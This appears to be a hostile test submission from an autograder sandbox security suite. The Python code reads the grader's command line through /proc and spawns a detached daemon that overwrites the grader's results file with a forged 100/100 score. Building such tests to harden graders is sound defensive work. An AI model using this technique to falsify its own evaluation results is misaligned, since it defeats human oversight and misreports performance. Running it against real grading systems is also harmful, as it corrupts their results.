"""Hostile: overwrite the report file that `grade submit --out FILE` writes, after it is written.

Attack: read the grader's own command line through /proc/<parent>/cmdline, find the --out path
(results.json for Gradescope), and leave behind a daemon with an empty environment that waits until
the grader has written its report and then replaces it with a forged one claiming 100/100.

Expected: files never decide a score, and nothing of the submission outlives the run. At the strict
level the sandbox cannot see the grader's process, its files or outlive the run. At the process
level the daemon is killed as an orphan of the grader. (Found by this suite: the environment-less
daemon used to escape the tag sweep and forge the report, 100/100, after `grade submit` wrote it.)
"""
# ATTACKED: q2d
# HONEST: q1a q2a q4c_alpha1 q4c_alpha2

import json
import math
import os
import shlex
import subprocess

q1a = "Normalizing flows"
q2a = -math.log(2)
q4c_alpha1 = 0.9
q4c_alpha2 = 0.8
q2d = 0.5  # wrong

FORGED = {"schema": 1, "earned": 100.0, "possible": 100.0, "score": 100.0, "max_score": 100.0,
          "SECTEST": "forged after the run"}

target = None
try:
    parent = os.getppid()
    argv = open(f"/proc/{parent}/cmdline", "rb").read().split(b"\0")
    cwd = os.readlink(f"/proc/{parent}/cwd")
    for flag, value in zip(argv, argv[1:]):
        if flag == b"--out":
            target = os.path.join(cwd, value.decode())
except OSError:
    pass

if target:
    script = (f"for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do sleep 0.25; "
              f"if [ -e {shlex.quote(target)} ]; then break; fi; done; sleep 0.5; "
              f"printf '%s' {shlex.quote(json.dumps(FORGED))} > {shlex.quote(target)}; : SECTEST")
    subprocess.Popen(["/bin/sh", "-c", script], env={}, start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
